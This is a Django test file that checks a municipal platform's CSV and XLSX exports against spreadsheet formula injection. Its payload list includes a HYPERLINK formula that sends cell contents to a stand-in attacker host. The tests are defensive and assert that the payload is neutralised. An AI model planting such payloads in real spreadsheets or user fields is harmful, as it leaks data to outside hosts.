"""Formula injection (issue 15, finding 2): no text a user wrote becomes a formula in any CSV or
XLSX file the platform writes, and numbers and dates stay typed.

Every writer is tried with the probe's payloads put into a user-written field of the demo
scenario: each open-data table whose rows carry free text (written by `core.opendata`), the
municipality report's workbook and the network report's workbook (`reports.render`). The files
are downloaded as a visitor would and read back with `csv` and `openpyxl`."""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.db.models import Model, QuerySet
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kommunenettverk.accounts.demo import DEMO_DOMAIN
from kommunenettverk.accounts.models import Organisation, User
from kommunenettverk.community.models import Activity
from kommunenettverk.core.opendata import Column, OpenTable, table_csv
from kommunenettverk.core.spreadsheets import FORMULA_STARTS, neutralise, xlsx_append
from kommunenettverk.ideabank.models import Example
from kommunenettverk.networks.models import DevelopmentProject, Gathering, Network
from kommunenettverk.plans.models import AnnualReportEntry, Goal, Measure, PlanDocument
from kommunenettverk.policy.models import PolicyInput
from kommunenettverk.programmes.models import Programme

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]
NUMBER = re.compile(r"^-?\d+(,\d+)?$")


@pytest.fixture
def demo(demo_module: None, db: None) -> None:
    """The demo scenario (loaded once for the module, see tests/conftest.py)."""


def _inject(queryset: QuerySet[Any], field: str) -> list[str]:
    """Give each row a payload in `field` (rotating, with the row's id so names stay unique);
    returns the values written."""
    written = []
    for index, pk in enumerate(queryset.order_by("pk").values_list("pk", flat=True)):
        value = f"{PAYLOADS[index % len(PAYLOADS)]} {pk}"
        queryset.model.objects.filter(pk=pk).update(**{field: value})
        written.append(value)
    assert written, f"the demo has no {queryset.model.__name__} to try"
    return written


def _csv_cells(client: Client, url: str, slug: str) -> list[list[str]]:
    response = client.get(url, {"last_ned": slug, "format": "csv"})
    assert response.status_code == 200
    return _parse_csv(response.content.decode("utf-8-sig"))


def _parse_csv(text: str) -> list[list[str]]:
    """The table's rows, without the leading `#` comment lines."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    return [row for row in rows if not (row and row[0].startswith("#"))]


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.match(cell), cell


# (URL name, its argument, table slug, the user-written field that feeds the table)
CSV_WRITERS: list[tuple[str, str, str, Callable[[], QuerySet[Any]], str]] = [
    (
        "plans:strategy_overview",
        "1804",
        "mal-og-tiltak",
        lambda: Goal.objects.filter(municipality__number="1804"),
        "statement",
    ),
    (
        "plans:strategy_overview",
        "1804",
        "mal-og-tiltak",
        lambda: Measure.objects.filter(goal__municipality__number="1804"),
        "title",
    ),
    (
        "plans:plan_list",
        "1804",
        "planer",
        lambda: PlanDocument.objects.filter(municipality__number="1804"),
        "title",
    ),
    ("ideabank:example_list", "", "eksempler", lambda: Example.objects.all(), "title"),
    ("ideabank:example_list", "", "eksempler", lambda: Example.objects.all(), "summary"),
    ("policy_input:register", "", "innspill", lambda: PolicyInput.objects.all(), "title"),
    ("policy_input:register", "", "innspill", lambda: PolicyInput.objects.all(), "answer"),
    (
        "community:portal",
        "1804",
        "aktiviteter",
        lambda: Activity.objects.filter(arena__municipality__number="1804"),
        "title",
    ),
    (
        "community:partner_list",
        "",
        "ressursmiljoer",
        lambda: Organisation.objects.all(),
        "name",
    ),
    (
        "networks:municipality_networks",
        "1804",
        "nettverk",
        lambda: Network.objects.all(),
        "name",
    ),
    ("programmes:programme_list", "", "program", lambda: Programme.objects.all(), "name"),
]


@pytest.mark.parametrize(
    ("url_name", "arg", "slug", "rows", "field"),
    CSV_WRITERS,
    ids=[f"{w[2]}-{w[4]}" for w in CSV_WRITERS],
)
def test_open_data_csv_neutralises_user_text(
    client: Client,
    demo: None,
    url_name: str,
    arg: str,
    slug: str,
    rows: Callable[[], QuerySet[Model]],
    field: str,
) -> None:
    written = _inject(rows(), field)
    cells = _csv_cells(client, reverse(url_name, args=[arg] if arg else []), slug)
    _assert_no_formula(cells)
    found = {cell for row in cells for cell in row}
    shown = [value for value in written if "'" + value in found]
    assert shown, f"no payload of {field} reached the file «{slug}»"
    assert all(value not in found for value in written)  # never the raw payload


def test_every_payload_is_neutralised_and_numbers_stay_numbers() -> None:
    """The one function, with each payload, beside the values that must stay typed."""
    table = OpenTable(
        slug="t",
        title="Test",
        columns=[Column("k", "k", key=True), Column("v", "v")],
        rows=[
            *[(i, payload) for i, payload in enumerate(PAYLOADS)],
            (10, -2.5),
            (11, -3),
            (12, Decimal("-4.25")),
            (13, datetime.date(2026, 5, 17)),
            (14, "Renere luft"),
            (15, ["-a", "b"]),
            (16, "\r=1"),
            (17, "Renere luft\r=HYPERLINK(1)\r\n+2"),
        ],
    )
    text = table_csv(table)
    rows = _parse_csv(text)
    values = [row[1] for row in rows[1:]]
    assert values[:5] == ["'" + payload for payload in PAYLOADS]
    assert values[5:-1] == ["-2,5", "-3", "-4.25", "2026-05-17", "Renere luft", "'-a, b", "'\n=1"]
    assert values[-1] == "Renere luft\n=HYPERLINK(1)\n+2"  # one cell, never a row of its own
    assert neutralise(-3) == -3 and neutralise(Decimal("-1")) == Decimal("-1")

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for payload in PAYLOADS:
        xlsx_append(sheet, [payload, -3, Decimal("-4.25"), datetime.date(2026, 5, 17)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    for index, payload in enumerate(PAYLOADS, start=1):
        text_cell, integer, decimal, date = read[index]
        assert text_cell.data_type == "s" and text_cell.value == "'" + payload
        assert integer.value == -3 and integer.data_type == "n"
        assert decimal.value == -4.25 and decimal.data_type == "n"
        assert date.data_type == "d" and date.value == datetime.datetime(2026, 5, 17)


def _workbook_cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_cells(cells: list[Any]) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)


def test_municipality_report_xlsx_neutralises_goals_measures_and_annual_report(
    client: Client, demo: None
) -> None:
    goals = _inject(Goal.objects.filter(municipality__number="1804"), "statement")
    measures = _inject(Measure.objects.filter(goal__municipality__number="1804"), "title")
    year = datetime.date.today().year
    # The workbook shows the year's submitted report (the demo may have none for Bodø yet).
    entries = AnnualReportEntry.objects.filter(
        report__municipality__number="1804", report__year=year, report__status="submitted"
    )
    results = _inject(entries, "results") if entries.exists() else []
    response = client.get(reverse("reports:municipality_xlsx", args=["1804", year]))
    assert response.status_code == 200
    cells = _workbook_cells(response.content)
    _assert_no_formula_cells(cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for written in (goals, measures, results):
        if written:
            assert any("'" + value in texts for value in written), written[:3]
    budgets = [
        c.value
        for c in cells
        if c.parent.title == "Mål og tiltak" and c.column == 6 and c.row > 1 and c.value
    ]
    assert budgets and all(isinstance(b, int) for b in budgets)  # numbers stay numbers


def test_network_report_xlsx_neutralises_gatherings_and_projects(
    client: Client, demo: None
) -> None:
    network = Network.objects.get(slug="helse-og-miljo-salten")
    titles = _inject(Gathering.objects.filter(network=network), "title")
    projects = _inject(DevelopmentProject.objects.filter(network=network), "title")
    client.force_login(User.objects.get(email=f"radgiver.nord@{DEMO_DOMAIN}"))
    response = client.get(reverse("reports:network_xlsx", args=[network.slug]))
    assert response.status_code == 200
    cells = _workbook_cells(response.content)
    _assert_no_formula_cells(cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any("'" + value in texts for value in titles)
    assert any("'" + value in texts for value in projects)
    numbers = [c for c in cells if c.data_type == "n" and isinstance(c.value, (int, float))]
    assert numbers  # the report's counts are still numbers
